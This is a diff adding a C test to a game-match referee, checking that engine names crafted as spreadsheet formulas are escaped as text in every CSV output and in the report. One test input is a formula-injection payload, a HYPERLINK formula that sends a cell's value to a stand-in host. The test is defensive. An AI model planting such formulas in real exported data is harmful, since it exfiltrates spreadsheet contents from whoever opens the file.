@@ -4,6 +4,8 @@
  * example brain (bots/pbrain.c) at gomoku. */
 #include "helpers.h"
 #include "run.h"
+#include "cell.h"
+#include "csvread.h"
 
 #include <criterion/criterion.h>
 #include <criterion/parameterized.h>
@@ -103,6 +105,96 @@ Test(engines, gtp_engine_answering_as_edax_does_plays_a_match, .timeout = 60)
     cr_expect(strstr(log, "gtp engine: Othello fixture 1.0"), "%s", log);
     cr_expect(strstr(log, " time_settings 0 1 1\n"), "%s", log);
     cr_expect(strstr(log, " time_left b 1 1\n") || strstr(log, " time_left w 1 1\n"), "%s", log);
+}
+
+/* The first raw cell of dir's file (as a spreadsheet would see it, before any
+ * reader takes a quote off) that a spreadsheet would take for a formula, into
+ * cell; false if none. */
+static bool formula_cell(const char *dir, const char *file, char *cell, size_t len)
+{
+    char path[256], why[256];
+    struct csvread in;
+    bool found = false;
+
+    snprintf(path, sizeof(path), "%s/%s", dir, file);
+    cr_assert_eq(csvread_open(&in, path, why, sizeof(why)), 0, "%s: %s", path, why);
+    while (!found && csvread_next(&in, why, sizeof(why)) > 0)
+        for (size_t c = 0; !found && c < in.ncols; c++) {
+            char *end;
+            strtod(in.row[c], &end); /* a number is one, such as an Elo of -35.2 */
+            if (cell_is_formula(in.row[c]) && (end == in.row[c] || *end)) {
+                snprintf(cell, len, "%s, column '%s': %s", file, in.header[c], in.row[c]);
+                found = true;
+            }
+        }
+    csvread_close(&in);
+    return found;
+}
+
+/* The raw cell of column in dir's file, in the row whose "bot" is bot, into
+ * cell ("" if none). */
+static const char *raw_cell(const char *dir, const char *file, const char *bot, const char *column,
+                            char *cell, size_t len)
+{
+    char path[256], why[256];
+    struct csvread in;
+
+    cell[0] = '\0';
+    snprintf(path, sizeof(path), "%s/%s", dir, file);
+    cr_assert_eq(csvread_open(&in, path, why, sizeof(why)), 0, "%s: %s", path, why);
+    int b = csvread_column(&in, "bot"), c = csvread_column(&in, column);
+    while (b >= 0 && c >= 0 && csvread_next(&in, why, sizeof(why)) > 0)
+        if (strcmp(in.row[b], bot) == 0)
+            snprintf(cell, len, "%s", in.row[c]);
+    csvread_close(&in);
+    return cell;
+}
+
+/* An engine's name is its own text: one a spreadsheet would take for a
+ * formula is written so that a spreadsheet shows it as text (a ' in front)
+ * in every CSV file of the run, and referee reads it back as the engine said
+ * it (check passes, the report shows the name). */
+Test(engines, gtp_engine_named_as_a_formula_is_written_as_text, .timeout = 120)
+{
+    static const char *const names[] = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+                                        "@SUM(1)"};
+    static const char *const files[] = {"games.csv", "moves.csv", "standings.csv", "crosstable.csv",
+                                        "run.csv"};
+    for (size_t k = 0; k < sizeof(names) / sizeof(names[0]); k++) {
+        char dir[64], bot[512], engine[256], raw[300], cell[512];
+        test_tmpdir(dir, "engines");
+        /* In single quotes for referee's split of the command: the name is one word. */
+        snprintf(bot, sizeof(bot), "evil=" BUILD_DIR "/testbots/othello gtp '%s'", names[k]);
+        char *run[] = {REFEREE_BIN, "match",   "--game",     "reversi", "--bot",
+                       bot,         "--proto", "evil=gtp",   "--bot",   "reversi=" BOTDIR "reversi",
+                       "--games",   "2",       "--openings", "2",       "--results",
+                       dir,         "-q",      NULL};
+        expect_clean_run(run, dir, names[k]);
+        for (size_t f = 0; f < sizeof(files) / sizeof(files[0]); f++)
+            cr_expect_not(formula_cell(dir, files[f], cell, sizeof(cell)), "%s", cell);
+
+        snprintf(engine, sizeof(engine), "%s 1.0", names[k]);
+        snprintf(raw, sizeof(raw), "'%s", engine);
+        cr_expect_str_eq(raw_cell(dir, "standings.csv", "evil", "engine", cell, sizeof(cell)), raw,
+                         "standings.csv keeps the name as text");
+        struct table t; /* read back as the engine said it */
+        test_load(&t, dir, "standings.csv");
+        for (size_t i = 0; i < t.nrows; i++)
+            if (strcmp(test_cell(&t, i, "bot"), "evil") == 0)
+                cr_expect_str_eq(test_cell(&t, i, "engine"), engine);
+        table_release(&t);
+
+        if (k == 1) { /* the report made again from the files shows the name itself */
+            char page[128], html[1 << 20];
+            snprintf(page, sizeof(page), "%s/again.html", dir);
+            char *report[] = {REFEREE_BIN, "report", dir, "--out", page, NULL};
+            cr_assert_eq(run_program(report, NULL, &r), 0);
+            cr_assert_eq(r.status, 0, "%s", r.err);
+            test_slurp(dir, "again.html", html, sizeof(html));
+            cr_expect(strstr(html, "<td class=\"name\">@SUM(1) 1.0</td>"),
+                      "the report shows the engine's name as it said it");
+        }
+    }
 }
 
 /* An engine whose `name` is 5,000 bytes (longer than a line referee reads)
